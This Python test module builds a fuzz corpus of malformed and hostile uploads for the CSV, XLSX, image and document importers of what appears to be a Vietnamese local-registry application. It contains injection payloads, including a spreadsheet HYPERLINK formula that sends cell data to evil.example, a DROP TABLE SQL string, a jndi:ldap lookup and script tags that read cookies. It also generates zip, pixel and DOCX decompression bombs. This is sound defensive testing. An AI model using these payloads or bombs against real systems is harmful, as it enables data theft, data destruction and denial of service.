"""The fuzz corpus, generated (no committed binaries): every kind of bad file an importer may be sent.

`table_files()` yields (label, filename, bytes) for spreadsheet/CSV importers; `images()` and `documents()` the
same for photo and attachment fields. Each entry is something a careless user or an attacker could upload.
"""

import io
import zipfile

INJECTIONS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1",
              "<script>alert(1)</script>", "'; DROP TABLE units_unit; --", "{{ 7*7 }}", "${jndi:ldap://x}"]
NFD = "Tho\u0302n Na\u0300 Hai"  # "Thôn Nà Hai" decomposed (NFD), as macOS writes it
HEADER = ["Mã khu dân cư", "Tên khu dân cư", "Loại", "Số hộ", "Mã xã"]


def _zip(parts: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


_CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                  'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
                  'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName='
                  '"/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
                  'main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxml'
                  'formats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
         'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
             '2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
             '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                  'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                  'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')


def raw_xlsx(sheet_data: str, dimension: str = "A1:E2") -> bytes:
    """A minimal XLSX written by hand, so that its <dimension> and cells can lie."""
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             f'spreadsheetml/2006/main"><dimension ref="{dimension}"/><sheetData>{sheet_data}</sheetData></worksheet>')
    return _zip({"[Content_Types].xml": _CONTENT_TYPES, "_rels/.rels": _RELS, "xl/workbook.xml": _WORKBOOK,
                 "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS, "xl/worksheets/sheet1.xml": sheet})


def _inline(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def dimension_bomb() -> bytes:
    """Issue 13 item 2: one real row, a declared sheet of 1,048,576 × 16,384 cells."""
    return raw_xlsx(f'<row r="1">{_inline("A1", "Mã khu dân cư")}</row>', dimension="A1:XFD1048576")


def far_row_bomb() -> bytes:
    """Two cells a million rows apart (and one in the last column)."""
    return raw_xlsx(f'<row r="1">{_inline("A1", "Mã")}</row><row r="1048576">{_inline("XFD1048576", "x")}</row>',
                    dimension="A1:XFD1048576")


def zip_bomb_xlsx() -> bytes:
    """A sheet of 60 MB of blank rows, deflated to a few tens of KB."""
    rows = "<row/>" * (60 * 1024 * 1024 // 6)
    return raw_xlsx(rows)


def xlsx(rows) -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_text(rows, delimiter=",") -> str:
    return "\r\n".join(delimiter.join(str(c) for c in row) for row in rows) + "\r\n"


def cp1258(text: str) -> bytes:
    """Windows-1258 as Vietnamese Windows writes it: precomposed where the code page has the letter, else the
    base letter and a combining tone mark."""
    import unicodedata

    tones = {"\u0300", "\u0301", "\u0303", "\u0309", "\u0323"}
    out = b""
    for char in unicodedata.normalize("NFC", text):
        try:
            out += char.encode("cp1258")
        except UnicodeEncodeError:
            marks = unicodedata.normalize("NFD", char)
            letter = unicodedata.normalize("NFC", "".join(c for c in marks if c not in tones))
            out += letter.encode("cp1258") + "".join(c for c in marks if c in tones).encode("cp1258")
    return out


def table_files():
    """(label, filename, content) for the XLSX/CSV importers."""
    # Readable in every encoding below, and still refused: row 4 is wrong for every importer (no area "99",
    # "nhiều hộ" is no number), so a file that decodes well must be answered with that row's message.
    body = [HEADER, ["01", NFD, "thôn", "12", ""], ["02", INJECTIONS[0], "bản", "7", ""],
            ["99", "Xóm Lỗi", "thôn", "nhiều hộ", ""]]
    injection_rows = [HEADER] + [[f"{i:02d}", text, text, text, text] for i, text in enumerate(INJECTIONS, 1)]
    good = xlsx([HEADER, ["01", "Thôn Mới", "thôn", "10", ""]])
    yield from [
        ("empty CSV", "ds.csv", b""),
        ("empty XLSX", "ds.xlsx", b""),
        ("garbage CSV", "ds.csv", bytes(range(256)) * 8),
        ("garbage XLSX", "ds.xlsx", b"PK\x03\x04" + bytes(range(256)) * 8),
        ("truncated XLSX", "ds.xlsx", good[: len(good) // 2]),
        ("a zip that is no workbook", "ds.xlsx", _zip({"hello.txt": "xin chào"})),
        ("dimension bomb", "ds.xlsx", dimension_bomb()),
        ("far row bomb", "ds.xlsx", far_row_bomb()),
        ("zip bomb", "ds.xlsx", zip_bomb_xlsx()),
        ("wrong extension", "ds.txt", b"ma,ten\n01,Thon"),
        ("UTF-16 CSV", "ds.csv", csv_text(body).encode("utf-16")),
        ("UTF-16 CSV without BOM", "ds.csv", csv_text(body).encode("utf-16-le")),
        ("UTF-8 BOM CSV", "ds.csv", csv_text(body).encode("utf-8-sig")),
        ("CP1258 CSV", "ds.csv", cp1258(csv_text(body))),
        ("very long cell", "ds.csv", csv_text([HEADER, ["01", "x" * 5000, "thôn", "1", ""]]).encode()),
        ("long names", "ds.csv", csv_text([HEADER, ["01", "Thôn " + "Nà Hai " * 80, "thôn", "1", ""],
                                           ["01", "Nguyễn " * 80, "", "2", "nghèo"]]).encode()),
        ("Shift-JIS CSV", "ds.csv", "コード,名前\r\n01,テスト\r\n".encode("shift_jis")),
        ("one-column CSV", "ds.csv", "Mã khu dân cư\r\n01\r\n02\r\n".encode()),
        ("semicolon CSV", "ds.csv", csv_text(body, ";").encode()),
        ("NUL in a CSV cell", "ds.csv", csv_text(body).replace("12", "1\x002").encode()),
        ("NUL-only CSV", "ds.csv", b"\x00" * 100),
        ("injection strings CSV", "ds.csv", csv_text(injection_rows).encode()),
        ("injection strings XLSX", "ds.xlsx", xlsx(injection_rows)),
        ("NFD XLSX", "ds.xlsx", xlsx(body)),
        ("broken quoting CSV", "ds.csv", b'Ma,Ten\n01,"Th\xc3\xb4n\n' + b"x" * 200_000),
        ("too many columns CSV", "ds.csv", csv_text([HEADER + ["x"] * 60, ["01"] * 65]).encode()),
        ("header only", "ds.csv", csv_text([HEADER]).encode()),
    ]


def _png(size=(4, 4)) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, "red").save(buffer, "PNG")
    return buffer.getvalue()


def images():
    """(label, filename, content) for photo fields; none of them is a usable image."""
    png = _png()
    return [
        ("HTML behind a JPEG signature", "anh.html", b"\xff\xd8\xff<html><script>alert(document.cookie)</script>"),
        ("SVG with a script", "anh.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        ("truncated PNG", "anh.png", png[:30]),
        ("empty", "anh.jpg", b""),
        ("garbage", "anh.jpg", bytes(range(256)) * 4),
        ("pixel bomb", "anh.png", _pixel_bomb()),
    ]


def _pixel_bomb() -> bytes:
    """A PNG whose header claims 100,000 × 100,000 pixels."""
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 100_000, 100_000, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00" * 1000)) + chunk(b"IEND", b""))


def documents():
    """(label, filename, content) for PDF/DOCX attachments and plan documents."""
    return [
        ("empty", "tep.pdf", b""),
        ("garbage named .pdf", "tep.pdf", bytes(range(256)) * 4),
        ("truncated PDF", "tep.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >>"),
        ("HTML named .pdf", "tep.pdf", b"<html><script>alert(1)</script></html>"),
        ("zip that is no document", "tep.docx", _zip({"a.txt": "x"})),
        ("DOCX bomb", "tep.docx", docx_bomb()),
        ("garbage DOCX", "tep.docx", b"PK\x03\x04" + b"\x00" * 300),
    ]


def docx_bomb(megabytes: int = 45) -> bytes:
    """Issue 13 item 11: a real DOCX (python-docx) whose document.xml is tens of MB of paragraphs."""
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    paragraph = "<w:p><w:r><w:t>Kế hoạch thực hiện Cuộc vận động</w:t></w:r></w:p>"
    body = paragraph * (megabytes * 1024 * 1024 // len(paragraph.encode()))
    document = ('<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
                f'wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>')
    parts = {i.filename: source.read(i.filename) for i in source.infolist()}
    parts["word/document.xml"] = document
    return _zip(parts)
